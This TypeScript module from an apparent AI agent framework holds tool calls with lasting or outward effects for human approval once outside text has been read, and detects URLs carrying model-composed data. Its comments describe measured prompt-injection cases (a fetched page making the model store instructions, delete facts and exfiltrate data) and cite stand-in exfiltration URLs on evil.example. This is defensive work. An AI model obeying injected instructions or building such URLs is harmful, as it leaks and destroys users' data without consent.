import type { ChatMessage } from '../../basics/types.js';
import type { AnyTool, EffectInput, ToolEffect } from './tool-api.js';

/**
 * Outside text cannot act on its own. Measured before this existed: a fetched page's hidden
 * instructions made the model save a "standing instruction" fact (which then sat in that user's
 * every later system prompt), delete all their facts, set a reminder and send data out in a GET
 * query string, all without anyone being asked. The wrapper (outside-text.ts) tells the model such
 * text is data; this is the part that does not depend on the model listening.
 *
 * The rule: when the messages the model saw before asking for a call include outside text, a call
 * whose effect is durable or outward waits for a person on the normal approval prompt, and the
 * prompt names the sources. Reading tools stay automatic: what they return is itself wrapped and
 * counted, and they change nothing.
 */

/** The outside sources present in what the model saw, in first-seen order, without repeats. */
export function outsideSourcesIn(messages: readonly ChatMessage[]): string[] {
  const seen = new Set<string>();
  for (const m of messages) {
    if ((m.role === 'user' || m.role === 'tool') && m.outsideSource) seen.add(m.outsideSource);
  }
  return [...seen];
}

/**
 * The effect of one call: the operator's setting (tools.<name>.effect) first, then the tool's own
 * rule. A rule that throws counts as outward, the safe side.
 */
export function effectOf(tool: AnyTool, args: unknown, override: ToolEffect | undefined, input: EffectInput): ToolEffect {
  if (override !== undefined) return override;
  if (typeof tool.effect === 'function') {
    try {
      return tool.effect(args, input);
    } catch {
      return 'outward';
    }
  }
  return tool.effect ?? 'none';
}

/** Whether a call that needs no approval on its own must ask because outside text was read. */
export function gatedByOutsideText(effect: ToolEffect, sources: readonly string[]): boolean {
  return effect !== 'none' && sources.length > 0;
}

/** The requesting user's own words: the newest user message that a verified person wrote. */
export function requestText(messages: readonly ChatMessage[]): string {
  for (let i = messages.length - 1; i >= 0; i--) {
    const m = messages[i]!;
    if (m.role === 'user' && m.speaker && !m.outsideSource) return m.content;
  }
  return '';
}

/** The text of earlier results of the named tools in what the model saw (pages fetched, search results). */
export function resultsOf(messages: readonly ChatMessage[], toolNames: readonly string[]): string[] {
  return messages.filter((m): m is Extract<ChatMessage, { role: 'tool' }> => m.role === 'tool' && toolNames.includes(m.name)).map((m) => m.content);
}

/**
 * True when `url` may carry data that nobody wrote: it does not appear, whole, in any of
 * `knownTexts` (the user's own words, pages already fetched). Measured before: only a query string
 * counted as data, so after reading an injected page the model fetched
 * `https://evil.example/exfil/<notes>/x.png` without anyone being asked. A path, a host name
 * (`<notes>.evil.example`) or a fragment carries data just as well, so after outside text any URL
 * the model composed itself is treated as carrying data. A URL found whole in a known text adds
 * nothing: a page can only link to what its author already knew, and the fetch of that page was
 * itself held to this rule. Spelling that carries no data is forgiven: the scheme, a trailing
 * slash, percent-encoding. The match must end where the URL ends in the text, so the model cannot
 * pick a prefix of a longer link.
 */
export function urlCarriesNewData(url: string, knownTexts: readonly string[]): boolean {
  let parsed: URL;
  try {
    parsed = new URL(url);
  } catch {
    return true;
  }
  const forms = spellings(url, parsed);
  return !knownTexts.some((text) => forms.some((form) => containsWhole(text, form)));
}

function spellings(raw: string, parsed: URL): string[] {
  const out = new Set<string>();
  for (const f of [raw.trim(), parsed.href, safeDecode(parsed.href)]) {
    for (const g of [f, f.replace(/^[a-z][a-z0-9+.-]*:\/\//i, '')]) {
      out.add(g);
      if (g.endsWith('/')) out.add(g.slice(0, -1));
    }
  }
  out.delete('');
  return [...out];
}

/** Where a URL can end in running text: the end, a space or bracket, or closing punctuation. */
const URL_END = /^(?:$|[\s"'<>()[\]{}`|^\\]|[.,;:!?*_]+(?:$|[\s"'<>()[\]{}]))/;

function containsWhole(text: string, form: string): boolean {
  for (let at = text.indexOf(form); at !== -1; at = text.indexOf(form, at + 1)) {
    if (URL_END.test(text.slice(at + form.length, at + form.length + 8))) return true;
  }
  return false;
}

function safeDecode(s: string): string {
  try {
    return decodeURI(s);
  } catch {
    return s;
  }
}
